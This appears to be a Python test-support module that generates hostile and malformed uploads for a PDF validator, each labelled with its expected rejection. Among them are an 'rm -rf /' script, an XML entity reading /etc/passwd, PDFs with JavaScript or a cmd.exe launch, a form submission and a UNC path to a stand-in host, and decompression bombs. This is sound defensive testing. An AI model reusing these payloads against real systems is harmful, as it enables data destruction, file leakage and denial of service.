"""Sixty-odd hostile uploads, made by code: what each is, and the word of its answer; None where it may be taken."""

from __future__ import annotations

import io
import zipfile
import zlib

from PIL import Image

from tests.support.pdfs import CATALOGUE, HTML, PAGE, circular_pdf, empty_pdf, locked_pdf, make_pdf, write_pdf

KIDS = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
SCRIPT = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
NOT_PDF, BROKEN, LARGE, RUNS = (
    "not a PDF",
    "cannot be opened",
    "larger than any paper",
    "something else to run",
)


def _page(more: str, *objects: str) -> bytes:
    """A PDF of one page that says more about itself, with objects from number 4 on."""
    return write_pdf(CATALOGUE, KIDS, PAGE.replace(">>", f"{more} >>"), *objects)


def _box(box: str) -> bytes:
    return write_pdf(CATALOGUE, KIDS, f"<< /Type /Page /Parent 2 0 R /MediaBox {box} >>")


def _catalogue(more: str, *objects: str) -> bytes:
    return write_pdf(CATALOGUE.replace(">>", f"{more} >>"), KIDS, PAGE, *objects)


def _drawing(commands: str) -> bytes:
    return _page("/Contents 4 0 R", f"<< /Length {len(commands)} >>\nstream\n{commands}\nendstream")


def _packed(content: bytes, *, layers: int = 1, more: str = "", page: str = "/Contents 4 0 R") -> bytes:
    """A page with a stream that is a thousand times as large once it is unpacked."""
    for _layer in range(layers):
        content = zlib.compress(content, 9)
    filters = "/FlateDecode " * layers
    head = f"<< /Length {len(content)} /Filter [{filters}] {more} >>\nstream\n"
    raw = write_pdf(CATALOGUE, KIDS, PAGE.replace(">>", f"{page} >>"), head + "HERE\nendstream")
    return raw.replace(b"HERE", content)


def _image(width: int, height: int, bits: int = 8) -> bytes:
    more = f"/Subtype /Image /Width {width} /Height {height} /BitsPerComponent {bits} /ColorSpace /DeviceRGB"
    page = "/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R"
    data = zlib.compress(bytes(1000))
    raw = write_pdf(
        CATALOGUE,
        KIDS,
        PAGE.replace(">>", f"{page} >>"),
        f"<< /Length {len(data)} /Filter /FlateDecode {more} >>\nstream\nHERE\nendstream",
        "<< /Length 30 >>\nstream\nq 500 0 0 500 0 0 cm /I Do Q   \nendstream",
    )
    return raw.replace(b"HERE", data)


def _zip(**files: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _picture(kind: str) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (8, 8)).save(written, kind)
    return written.getvalue()


def _forms(depth: int) -> bytes:
    """Forms that each draw the next one twice: two to the power of the depth."""
    forms = [
        f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F {number + 1} 0 R >> >>"
        " /Length 12 >>\nstream\n/F Do /F Do \nendstream"
        for number in range(5, 5 + depth)
    ]
    last = "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 10 >>\nstream\n0 0 9 9 re\nendstream"
    content = "<< /Length 6 >>\nstream\n/F Do \nendstream"
    return _page("/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>", content, *forms, last)


def _fonts() -> bytes:
    return _page(
        "/Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>",
        "<< /Length 30 >>\nstream\nBT /F 12 Tf 9 9 Td (abc) Tj ET \nendstream",
        "<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >>",
        "<< /Type /FontDescriptor /FontName /X /FontFile2 7 0 R >>",
        "<< /Length 40 >>\nstream\n" + "\x01" * 39 + "\nendstream",
    )


_SHADING = (
    "/Contents 4 0 R /Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 99999 0 99999]"
    " /Function << /FunctionType 4 /Domain [0 1 0 1] /Range [0 1] /Length 9 >> >> >> >>"
)

FILES: dict[str, tuple[bytes, str | None]] = {
    # Something else under the name of a PDF
    "nothing": (b"", "empty"),
    "one zero": (b"\0", NOT_PDF),
    "a letter": (b"Just a letter.", NOT_PDF),
    "a web page": (HTML, NOT_PDF),
    "a drawing with a script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', NOT_PDF),
    "XML with an entity of another file": (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        NOT_PDF,
    ),
    "a program for Windows": (b"MZ\x90\0" + bytes(4000), NOT_PDF),
    "a program for Linux": (b"\x7fELF" + bytes(4000), NOT_PDF),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", NOT_PDF),
    "PostScript": (b"%!PS-Adobe-3.0\n(x) show\nshowpage\n", NOT_PDF),
    "an archive": (_zip(a="a"), NOT_PDF),
    "an archive that unpacks to 20 MB": (_zip(a="0" * 20_000_000), NOT_PDF),
    "a text with macros": (_zip(**{"word/vbaProject.bin": "x", "[Content_Types].xml": "<Types/>"}), NOT_PDF),
    "a picture": (_picture("PNG"), NOT_PDF),
    "a photograph": (_picture("JPEG"), NOT_PDF),
    "a moving picture": (_picture("GIF"), NOT_PDF),
    "rich text": (b"{\\rtf1 {\\object\\objdata 00}}", NOT_PDF),
    "a calendar": (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", NOT_PDF),
    "wide letters": ("%PDF-1.7".encode("utf-16"), NOT_PDF),
    "a web page before a PDF": (HTML + make_pdf(), NOT_PDF),
    "an archive before a PDF": (_zip(a="a") + make_pdf(), NOT_PDF),
    # Begins as a PDF and is none
    "the first line alone": (b"%PDF-1.7\n", BROKEN),
    "first and last line alone": (b"%PDF-1.7\n%%EOF\n", BROKEN),
    "a web page behind the first line": (b"%PDF-1.7\n" + HTML, BROKEN),
    "a web page between first and last line": (b"%PDF-1.7\n" + HTML + b"\n%%EOF", BROKEN),
    "noise between first and last line": (b"%PDF-1.7\n" + bytes(range(256)) * 500 + b"\n%%EOF", BROKEN),
    "a million brackets": (b"%PDF-1.7\n" + b"[" * 1_000_000 + b"\n%%EOF", BROKEN),
    "dictionaries a hundred thousand deep": (b"%PDF-1.7\n1 0 obj\n" + b"<<" * 100_000 + b"\n%%EOF", BROKEN),
    "a table of addresses that points behind the end": (
        b"%PDF-1.7\nxref\n0 1\n9999999999 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R >>\nstartxref\n99999999\n%%EOF",
        BROKEN,
    ),
    "cut in the middle": (make_pdf(20)[:900], BROKEN),
    "cut before its last lines": (make_pdf(5)[:-60], BROKEN),
    "cut after the first kilobyte, with an end put on": (make_pdf(20)[:1000] + b"\n%%EOF", BROKEN),
    "without pages": (empty_pdf(), BROKEN),
    "pages that lead back to themselves": (circular_pdf(), ""),
    "a page that is its own parent": (
        write_pdf(CATALOGUE, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"),
        "",
    ),
    "a catalogue that is a number": (write_pdf("42", KIDS, PAGE), BROKEN),
    # Locked
    "locked": (locked_pdf(), "password"),
    "locked in an unknown way": (
        write_pdf(CATALOGUE, KIDS, PAGE, "<< /Filter /Nobody /V 99 /R 99 >>", trailer="/Encrypt 4 0 R"),
        "",
    ),
    # Too much
    "301 pages": (make_pdf(301), "more than 300 pages"),
    "500 pages": (make_pdf(500), "more than 300 pages"),
    "a page of 14 million points": (make_pdf(1, (14_400_000, 14_400_000)), LARGE),
    "a strip of 14 million points": (_box("[0 0 14400000 1]"), LARGE),
    "a page far to the left": (_box("[-14400000 0 595 842]"), LARGE),
    "a page of a billion points": (_box("[0 0 1000000000 842]"), LARGE),
    "a page without size": (_box("[0 0 0 0]"), None),
    "a page turned inside out": (_box("[595 842 0 0]"), None),
    "a page whose size is no number": (_box("[/a /b (c) <<>>]"), None),
    "a unit of a million": (_page("/UserUnit 1000000"), None),
    "a picture of 100,000 by 100,000 points": (_image(100_000, 100_000), None),
    "a picture of two thousand million points": (_image(2_000_000_000, 1), None),
    "a picture with 255 bits to a colour": (_image(10, 10, 255), None),
    "drawing that unpacks to 50 MB": (_packed(b"0 0 m 1 1 l S\n" * 3_600_000), ""),
    "blanks that unpack to 100 MB": (_packed(b" " * 100_000_000), ""),
    "packed three times": (_packed(b" " * 50_000_000, layers=3), ""),
    "a hundred thousand saved states": (_drawing("q " * 100_000), None),
    "text of a million letters": (_drawing("BT (" + "a" * 1_000_000 + ") Tj ET"), None),
    "a form that draws itself": (
        _page(
            "/Contents 4 0 R /Resources << /XObject << /F 4 0 R >> >>",
            "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 6 "
            "/Resources << /XObject << /F 4 0 R >> >> >>\nstream\n/F Do \nendstream",
        ),
        None,
    ),
    "forms that double thirty times": (_forms(30), ""),
    "a broken font": (_fonts(), None),
    "a shading without end": (_page(_SHADING, "<< /Length 6 >>\nstream\n/S sh \nendstream"), None),
    # Something to run
    "a script at opening": (_catalogue("/OpenAction 4 0 R", SCRIPT), RUNS),
    "a script among the names": (
        _catalogue("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", SCRIPT),
        RUNS,
    ),
    "a script of a page": (_page("/AA << /O 4 0 R >>", SCRIPT), RUNS),
    "a script behind a link": (
        _page("/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A 4 0 R >>]", SCRIPT),
        RUNS,
    ),
    "a program at opening": (_catalogue("/OpenAction << /S /Launch /F (cmd.exe) >>"), RUNS),
    "a player of films": (_page("/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), RUNS),
    "a form that sends itself off": (
        _catalogue("/OpenAction << /S /SubmitForm /F (http://198.51.100.1/) >>"),
        None,
    ),
    "an address opened at once": (_catalogue("/OpenAction << /S /URI /URI (http://198.51.100.1/) >>"), None),
    "another file opened at once": (
        _catalogue("/OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.1\\\\a) >>"),
        None,
    ),
    "a PDF with a web page behind it": (make_pdf() + HTML, None),
    "a PDF with an archive behind it": (make_pdf() + _zip(a="a"), None),
    "a PDF with a web page in its notes": (
        write_pdf(CATALOGUE, KIDS, PAGE, f"<< /Title ({HTML.decode()}) >>", trailer="/Info 4 0 R"),
        None,
    ),
}
